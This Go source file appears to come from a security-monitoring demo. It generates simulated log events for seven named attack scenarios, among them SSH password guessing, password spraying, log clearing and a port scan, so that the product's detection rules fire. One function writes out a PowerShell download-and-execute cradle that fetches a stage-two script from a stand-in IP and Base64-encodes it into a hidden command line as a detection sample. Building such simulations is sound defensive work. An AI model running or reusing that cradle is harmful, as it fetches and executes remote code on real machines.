package demo

import (
	"encoding/base64"
	"fmt"
	"slices"
	"time"
	"unicode/utf16"
)

// Scenario is a named attack that can be started in one organization.
type Scenario struct {
	Org         string // slug
	Name        string
	Title       string
	Description string // what happens, and which incident comes of it
	Rule        string // id of the shipped rule that raises it
	Wait        time.Duration

	from string // address of the attacker in the organization's script; "" when there is none
	play func(w *world, now time.Time, from string) batch
}

// Scenarios are the attacks of the demo, in the order of the organizations.
func Scenarios() []Scenario { return slices.Clone(scenarios[:]) }

var scenarios = [...]Scenario{
	{
		Org: "harbour", Name: "guessed-password", Title: "A password is guessed over SSH", from: "203.0.113.7", play: bruteForce,
		Description: "One address guesses root's password on bastion-1: 14 failures, then a login. Two incidents: the guessing, and “root logged in after 14 failures”.",
		Rule:        "ssh-guessed-password",
	}, {
		Org: "harbour", Name: "password-spray", Title: "One password, many accounts", from: "203.0.113.44", play: spray,
		Description: "One address tries a password on twelve accounts of the domain controller. One incident: it failed to log in as many different users.",
		Rule:        "password-spray",
	}, {
		Org: "harbour", Name: "encoded-powershell", Title: "Hidden PowerShell from a document", play: encodedPowerShell,
		Description: "Word starts PowerShell with a Base64 command that downloads a script. One incident; the rule is a Wasm module that decodes the command.",
		Rule:        "encoded-powershell",
	}, {
		Org: "harbour", Name: "log-cleared", Title: "Traces are removed", play: clearedLog,
		Description: "The security log of a file server is emptied. One incident.",
		Rule:        "windows-log-cleared",
	}, {
		Org: "meadow", Name: "port-scan", Title: "A port scan from outside", from: "198.51.100.23", play: portScan,
		Description: "One address knocks at 26 ports of a server, and the firewall denies each. One incident.",
		Rule:        "fortigate-port-scan",
	}, {
		Org: "meadow", Name: "outside-admin", Title: "The firewall is administered from outside", from: "203.0.113.90", play: strangeAdmin,
		Description: "The account admin signs in to the firewall from the internet. One incident.",
		Rule:        "fortigate-admin-outside",
	}, {
		Org: "meadow", Name: "malware-left", Title: "Malware is found and stays", play: uncleanedMalware,
		Description: "Defender finds malware on a radiology workstation, and nothing removes it. One incident after five minutes: it comes of what does not happen.",
		Rule:        "windows-malware-not-removed", Wait: 5 * time.Minute,
	},
}

// scenario returns the attack of that name in an organization, nil when there is none.
func scenario(org, name string) *Scenario {
	i := slices.IndexFunc(scenarios[:], func(s Scenario) bool { return s.Org == org && s.Name == name })
	if i < 0 {
		return nil
	}
	return &scenarios[i]
}

// scene is an attack that the script plays at a time after the start, and perhaps again and again.
type scene struct {
	at     time.Duration
	every  time.Duration // 0: once
	attack *Scenario
}

func insert(script []scene, s scene) []scene {
	i, _ := slices.BinarySearchFunc(script, s, func(a, b scene) int { return int(a.at - b.at) })
	return slices.Insert(script, i, s)
}

// scenes is an organization's script: three different incidents within the first minute between the two of them, then
// one new one in a few minutes, while the scan and the guessing go on and raise their counts.
func scenes(org string) []scene {
	if org == "harbour" {
		return []scene{
			{5 * time.Second, 0, scenario(org, "guessed-password")},
			{3 * time.Minute, 0, scenario(org, "log-cleared")},
			{6 * time.Minute, 0, scenario(org, "encoded-powershell")},
			{12 * time.Minute, 30 * time.Minute, scenario(org, "password-spray")},
		}
	}
	return []scene{
		{15 * time.Second, 40 * time.Second, scenario(org, "port-scan")},
		{9 * time.Minute, 0, scenario(org, "malware-left")},
		{15 * time.Minute, 0, scenario(org, "outside-admin")},
	}
}

// stranger is an address that differs from that of the script, so that what is started by hand is an incident of its
// own; "" where the attack has no address.
func (w *world) stranger(s *Scenario) string {
	if s.from == "" {
		return ""
	}
	return fmt.Sprintf("192.0.2.%d", 1+w.rnd.IntN(250))
}

// bruteForce guesses root's password from one address until it is right.
func bruteForce(w *world, now time.Time, from string) (b batch) {
	host := w.org.linux[0]
	for i := range 14 {
		b.tcp = append(b.tcp, w.sshFailure(now.Add(time.Duration(i-15)*time.Second/2), host, "root", from, false))
	}
	b.tcp = append(b.tcp, w.sshSuccess(now, host, "root", from))
	return b
}

// portScan knocks at many ports of one machine; the firewall denies all of it.
func portScan(w *world, now time.Time, from string) (b batch) {
	for i := range 26 {
		b.udp = append(b.udp, w.gateDeny(now, from, "10.0.0.12", 20+i*37))
	}
	return b
}

// clearedLog empties the security log of a file server.
func clearedLog(w *world, now time.Time, _ string) batch {
	return batch{http: [][]byte{w.logCleared(now, w.org.windows[1], "svc-backup")}}
}

// encodedPowerShell downloads and runs a script from an encoded command line.
func encodedPowerShell(w *world, now time.Time, _ string) batch {
	script := `IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.66/stage2.ps1')`
	var utf []byte
	for _, c := range utf16.Encode([]rune(script)) {
		utf = append(utf, byte(c), byte(c>>8))
	}
	line := "powershell.exe -nop -w hidden -enc " + base64.StdEncoding.EncodeToString(utf)
	return batch{http: [][]byte{w.process(now, w.org.windows[2], "dara", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, line, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`)}}
}

// spray tries one password on many accounts.
func spray(w *world, now time.Time, from string) (b batch) {
	for _, user := range []string{"ada", "bjorn", "chidi", "dara", "emeka", "farah", "goran", "hana", "ines", "jonas", "kofi", "lena"} {
		b.http = append(b.http, w.logonFailure(now, w.org.windows[0], user, from))
	}
	return b
}

// uncleanedMalware is found, by the firewall and on the machine, and never cleaned.
func uncleanedMalware(w *world, now time.Time, _ string) batch {
	return batch{udp: [][]byte{w.virus(now, "10.0.0.77", "monitored")}, http: [][]byte{w.defender(now, w.org.windows[1], "rad-tech")}}
}

// strangeAdmin signs in to the firewall from the internet.
func strangeAdmin(w *world, now time.Time, from string) batch {
	return batch{udp: [][]byte{w.adminLogin(now, from)}}
}
